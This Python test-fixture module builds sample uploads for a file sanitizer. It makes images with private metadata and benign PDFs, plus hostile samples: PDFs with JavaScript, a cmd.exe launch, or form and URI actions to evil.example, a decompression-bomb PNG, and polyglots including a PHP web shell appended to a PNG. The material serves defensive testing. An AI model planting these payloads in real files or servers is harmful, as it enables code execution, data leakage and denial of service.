"""Files as people and attackers send them, made while the tests run."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from typing import Any

SECRETS = ("ACME-camara-9000", "Santiago-33.45S", "autora-secreta")
"""What stands in the metadata of the pictures, and must not be kept."""


@cache
def jpeg(width: int = 64, height: int = 48, turned: bool = False) -> bytes:
    """A picture, red on its left and blue on its right, full of metadata; `turned` as by a camera held upright."""
    from PIL import Image

    exif = Image.Exif()
    exif[0x010F], exif[0x013B] = SECRETS[0], SECRETS[2]
    exif[0x0112] = 6 if turned else 1
    exif.get_ifd(0x8825)[1] = SECRETS[1]
    out = io.BytesIO()
    _halves(width, height).save(out, "JPEG", quality=90, exif=exif, comment=SECRETS[0], icc_profile=_profile(), dpi=(300, 300))
    return out.getvalue()


@cache
def png(width: int = 64, height: int = 48, mode: str = "RGB") -> bytes:
    """A picture with text chunks."""
    from PIL import PngImagePlugin

    text = PngImagePlugin.PngInfo()
    text.add_text("Author", SECRETS[2])
    text.add_itxt("Comment", SECRETS[0], zip=True)
    out = io.BytesIO()
    _halves(width, height).convert(mode).save(out, "PNG", pnginfo=text)
    return out.getvalue()


@cache
def heic(width: int = 64, height: int = 48) -> bytes:
    """A picture as telephones take it."""
    import pillow_heif
    from PIL import Image

    pillow_heif.register_heif_opener()
    exif = Image.Exif()
    exif[0x010F] = SECRETS[0]
    out = io.BytesIO()
    _halves(width, height).save(out, "HEIF", quality=60, exif=exif)
    return out.getvalue()


def _halves(width: int, height: int) -> Any:
    from PIL import Image

    whole = Image.new("RGB", (width, height), "red")
    whole.paste("blue", (width // 2, 0, width, height))
    return whole


def _profile() -> bytes:
    from PIL import ImageCms

    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


@cache
def photo(width: int = 3264, height: int = 2448, quality: int = 76) -> bytes:
    """A picture with as much detail as a photo has: 8 megapixels are about 2 MB."""
    import random

    from PIL import Image

    grain = random.Random(1).randbytes((width // 6) * (height // 6) * 3)
    small = Image.frombytes("RGB", (width // 6, height // 6), grain)
    out = io.BytesIO()
    small.resize((width, height), Image.Resampling.BICUBIC).save(out, "JPEG", quality=quality)
    return out.getvalue()


def pdf(words: str = "", change: Callable[[Any, Any], None] | None = None) -> bytes:
    """A page with words on it; `change` gets the writer and the page before they are written."""
    import pypdf
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    writer = pypdf.PdfWriter()
    page = writer.add_blank_page(300, 300)
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F1 12 Tf 20 200 Td ({words}) Tj ET".encode("latin-1"))
    font = _names(Type="/Font", Subtype="/Type1", BaseFont="/Helvetica", Encoding="/WinAnsiEncoding")
    fonts = DictionaryObject({NameObject("/F1"): writer._add_object(font)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    page[NameObject("/Contents")] = writer._add_object(stream)
    if change is not None:
        change(writer, page)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _names(**entries: str) -> Any:
    from pypdf.generic import DictionaryObject, NameObject

    return DictionaryObject({NameObject(f"/{key}"): NameObject(value) for key, value in entries.items()})


def _act(kind: str, **texts: str) -> Any:
    from pypdf.generic import NameObject, TextStringObject

    action = _names(S=kind)
    action.update({NameObject(f"/{key}"): TextStringObject(value) for key, value in texts.items()})
    return action


def _open_with(action: Any) -> Callable[[Any, Any], None]:
    from pypdf.generic import NameObject

    return lambda writer, page: writer.root_object.update({NameObject("/OpenAction"): writer._add_object(action)})


def _click(action: Any) -> Callable[[Any, Any], None]:
    from pypdf.generic import ArrayObject, NameObject

    def change(writer: Any, page: Any) -> None:
        link = _names(Type="/Annot", Subtype="/Link")
        link[NameObject("/A")] = action
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])

    return change


def _forms_of_xml(writer: Any, page: Any) -> None:
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    form = DictionaryObject({NameObject("/XFA"): writer._add_object(DecodedStreamObject())})
    writer.root_object[NameObject("/AcroForm")] = form


def _on_closing(writer: Any, page: Any) -> None:
    from pypdf.generic import DictionaryObject, NameObject

    page[NameObject("/AA")] = DictionaryObject({NameObject("/C"): _act("/URI", URI="https://evil.example")})


def _packed_script(writer: Any, page: Any) -> None:
    """A script that no name in the bytes gives away: its object is packed in a stream."""
    import re

    from pypdf.generic import NameObject, StreamObject

    number = 90
    inner = f"{number} 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>".encode()
    stream = StreamObject()
    stream._data = zlib.compress(inner)
    first = len(re.match(rb"\d+ 0 ", inner)[0])  # type: ignore[index]
    stream.update(_names(Type="/ObjStm", Filter="/FlateDecode"))
    from pypdf.generic import NumberObject

    stream[NameObject("/N")], stream[NameObject("/First")] = NumberObject(1), NumberObject(first)
    writer._add_object(stream)


def active_pdfs() -> dict[str, tuple[bytes, str]]:
    """PDFs that do more than show themselves: by what they do, with the code of the refusal."""
    return {
        "script at opening": (pdf(change=_open_with(_act("/JavaScript", JS="app.alert(1)"))), "script"),
        "script behind a link": (pdf(change=_click(_act("/JavaScript", JS="app.alert(1)"))), "script"),
        "program behind a link": (pdf(change=_click(_act("/Launch", F="cmd.exe"))), "launch"),
        "other file behind a link": (pdf(change=_click(_act("/GoToR", F="otro.pdf"))), "launch"),
        "sends a form": (pdf(change=_click(_act("/SubmitForm", F="https://evil.example"))), "form"),
        "site at opening": (pdf(change=_open_with(_act("/URI", URI="https://evil.example"))), "automatic"),
        "at closing": (pdf(change=_on_closing), "automatic"),
        "forms of XML": (pdf(change=_forms_of_xml), "form"),
        "embedded file": (pdf(change=lambda writer, page: writer.add_attachment("x.exe", b"MZ")), "embedded"),
        "locked": (pdf(change=lambda writer, page: writer.encrypt("clave")), "locked"),
        "name in disguise": (pdf().replace(b"/Pages", b"/Pages /Java#53cript (x)", 1), "script"),
    }


def still_pdfs() -> dict[str, bytes]:
    """PDFs that people really have: nothing in them acts."""
    return {
        "words": pdf("Hola"),
        "an empty line first": b"\r\n" + pdf("Hola"),
        "a mark of UTF-8 first": b"\xef\xbb\xbf" + pdf("Hola"),
        "link to a site": pdf(change=_click(_act("/URI", URI="https://www.chileatiende.gob.cl"))),
        "opens at a page": pdf(change=_open_with(_names(S="/GoTo", D="/Fit"))),
        "spoken of": pdf("Este texto habla de JavaScript y de Launch"),
    }


def bomb_png(side: int = 50_000) -> bytes:
    """A picture of a few kilobytes that would fill gigabytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    data = zlib.compress(bytes(4_000_000), 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def archive() -> bytes:
    """A ZIP, as a Word document is one."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def strange_files() -> dict[str, tuple[bytes, str]]:
    """Everything that is not what it seems: name → content, code of the refusal ("" when it may be kept, cleaned)."""
    picture, page = jpeg(), pdf("Hola")
    return {
        "program.pdf": (b"MZ\x90\x00" + bytes(600), "kind"),
        "page.jpg": (b"<!doctype html><script>alert(1)</script>", "kind"),
        "vector.png": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "kind"),
        "word.pdf": (archive(), "kind"),
        "animation.gif": (b"GIF89a" + bytes(100), "kind"),
        "video.heic": (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(100), "kind"),
        "film.heic": (b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmif1" + bytes(100), "kind"),
        "half.jpg": (picture[: len(picture) // 2], "damaged"),
        "half.png": (png()[:120], "damaged"),
        "half.heic": (heic()[:300], "damaged"),
        "half.pdf": (page[: len(page) // 2], "damaged"),
        "only-head.pdf": (b"%PDF-1.7\n", "damaged"),
        "only-ends.pdf": (b"%PDF-1.7\n%%EOF\n", "damaged"),
        "only-head.jpg": (b"\xff\xd8\xff\xe0", "damaged"),
        "later.pdf": (b"#!/bin/sh\n" + page, "hidden-pdf"),
        "pdf-and-zip.pdf": (page + archive(), "embedded"),
        "bomb.png": (bomb_png(), "pixels"),
        "jpeg-and-zip.jpg": (picture + archive(), ""),
        "jpeg-and-page.jpg": (picture + b"<script>alert(1)</script>", ""),
        "png-and-php.png": (png() + b"<?php system($_GET[0]); ?>", ""),
        "jpeg-called-pdf.pdf": (picture, ""),
        "pdf-called-photo.jpg": (page, ""),
    }
